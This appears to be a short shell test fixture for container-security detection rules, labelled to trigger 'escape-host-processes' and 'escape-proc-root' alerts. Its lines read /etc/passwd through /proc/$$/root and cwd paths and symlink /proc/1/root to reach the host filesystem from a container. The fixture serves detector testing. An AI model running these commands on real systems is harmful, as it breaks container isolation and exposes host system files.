# in: container --pid host
# fires: escape-host-processes escape-proc-root
# Not as it is written mostly.
cd /proc
cat $$/root/etc/passwd
cd /
cat //proc//$$/cwd/etc/passwd
ln -s /proc/1/root /tmp/host
